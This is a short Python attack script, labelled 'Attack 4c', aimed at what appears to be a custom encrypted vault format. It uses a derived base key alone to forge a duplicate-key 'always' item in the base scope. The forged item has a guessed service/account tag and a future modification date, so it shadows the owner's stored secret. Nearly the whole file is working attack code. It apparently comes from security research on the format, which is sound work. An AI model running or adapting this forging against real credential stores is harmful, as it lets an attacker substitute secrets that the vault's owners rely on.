#!/usr/bin/python3
"""Attack 4c: a holder of BK alone adds, in the base scope, an `always` item with the primary key of
an item of another scope (the lookup tag, which LK computes, confirms the guessed service and
account) and a later modificationDate. The owner's item stays where it is.

usage: duplicate_key.py <current> <out> <password file> <service>/<account> <secret> [<access group>]
"""
import os
import pathlib
import sys

from v3forge import Vault3, cf, encode_attributes, now_ms

current, out, password_file, name, secret = sys.argv[1:6]
group = sys.argv[6] if len(sys.argv) > 6 else ""
file = pathlib.Path(current).read_bytes()
owner = Vault3(file, {"password": pathlib.Path(password_file).read_text().rstrip("\n")})
opened = {"BK": cf.derive(owner.keys["mk"], 1, "VLTbase_")}
del owner
now = Vault3(file, opened=opened)
service, account = name.split("/")
tag = now.tag(0, service, account, group)
print("entries with that tag:", [(sid, k[8:].hex()) for sid, k, e in now.all_entries() if k[:8] == tag])
item_id = bytes(16)  # sorts before every other ID
event = os.urandom(8)
later = now_ms() + 365 * 86400000
attrs = encode_attributes(service, account, group, created=later, modified=later)
record = now.seal_record(item_id, 0x02, event, secret.encode(), attrs)
base = now.entries((1, 0)) + [(tag + item_id, {"live": True, "class": 0x02, "protection": 2, "attrs": len(attrs),
                                               "secret": len(secret.encode()), "offset": 0, "history": [event],
                                               "record": record})]
pathlib.Path(out).write_bytes(now.commit(changes={(1, 0): base}))
